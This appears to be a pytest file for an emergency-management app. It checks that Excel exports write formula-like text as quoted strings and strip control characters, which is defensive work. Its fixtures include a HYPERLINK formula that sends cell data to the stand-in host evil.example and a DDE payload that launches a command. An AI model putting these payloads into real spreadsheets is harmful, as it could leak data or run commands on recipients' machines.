"""Exports are safe to open: text beginning with =, +, -, @, tab or CR is written as text (never a formula),
and control characters are removed from cells, for every Excel export (all go through core.excel.export)."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from yingji.core import excel

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
STARTS = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.read("xl/worksheets/sheet1.xml").decode()


def _cells(data: bytes) -> list:
    ws = load_workbook(io.BytesIO(data)).active
    return [c for row in ws.iter_rows(min_row=2) for c in row]


def test_formula_like_text_is_written_as_text() -> None:
    columns = [excel.Column("name", "名称"), excel.Column("note", "备注")]
    data = excel.export(columns, [{"name": s, "note": "普通文字"} for s in STARTS], title="t")
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml  # no cell holds a formula
    cells = _cells(data)
    names = [c for c in cells if c.column == 1]
    assert [c.value for c in names] == STARTS  # the text itself is kept, not altered with a quote
    assert all(c.data_type == "s" for c in names)
    # Excel keeps a quote-prefixed cell as text even when someone edits it and presses Enter.
    assert all(c.quotePrefix for c in names)
    assert not any(c.quotePrefix for c in cells if c.column == 2)


def test_control_characters_are_removed_and_the_export_still_works() -> None:
    columns = [excel.Column("name", "名称")]
    data = excel.export(columns, [{"name": "报警\x07器\x00失效\x1b"}, {"name": "换行\n保留"}], title="t")
    assert [c.value for c in _cells(data)] == ["报警器失效", "换行\n保留"]


def test_team_named_as_a_formula_is_exported_as_text(api) -> None:
    duty = api("duty")
    r = duty.post(
        "/api/v1/resources/teams",
        json={"name": EVIL, "kind": "volunteer", "region_code": "450206100000", "lon": 109.33, "lat": 24.26},
    )
    assert r.status_code == 201, r.text
    data = duty.get("/api/v1/resources/excel/teams").content
    assert "<f>" not in _sheet_xml(data)
    [cell] = [c for c in _cells(data) if c.value == EVIL]
    assert cell.data_type == "s" and cell.quotePrefix


def test_hazard_ledger_exports_after_a_title_with_a_control_character(api, db) -> None:
    from tests.risk.helpers import new_hazard

    # Titles are now refused with control characters; one stored before that (or by an import) must not
    # break the ledger for everyone.
    hazard = new_hazard(db, title="消防通道堵塞")
    hazard.title = "消防\x07通道堵塞"
    db.commit()
    export = api("duty").get("/api/v1/risk/export/hazards")
    assert export.status_code == 200, export.text[:300]
    values = [c.value for c in _cells(export.content)]
    assert "消防通道堵塞" in values


def test_sensor_export_writes_formula_like_names_as_text(api) -> None:
    duty = api("duty")
    r = duty.post(
        "/api/v1/monitoring/sensors",
        json={
            "code": "XL-EVIL-1",
            "name": "@SUM(A1:A9)",
            "kind": "rain_gauge",
            "lon": 109.33,
            "lat": 24.27,
            "region_code": "450206100001",
        },
    )
    assert r.status_code == 201, r.text
    data = duty.get("/api/v1/monitoring/sensors/export.xlsx").content
    [cell] = [c for c in _cells(data) if c.value == "@SUM(A1:A9)"]
    assert cell.data_type == "s" and cell.quotePrefix
